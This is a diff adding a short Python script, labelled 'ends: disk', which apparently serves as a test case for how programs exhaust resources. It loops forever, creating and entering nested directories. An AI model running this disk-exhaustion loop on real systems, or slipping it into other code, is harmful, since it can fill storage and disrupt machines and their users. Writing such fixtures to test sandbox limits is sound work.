@@ -1,0 +1,6 @@
+# ends: disk
+import os
+
+while True:
+    os.mkdir("d")
+    os.chdir("d")
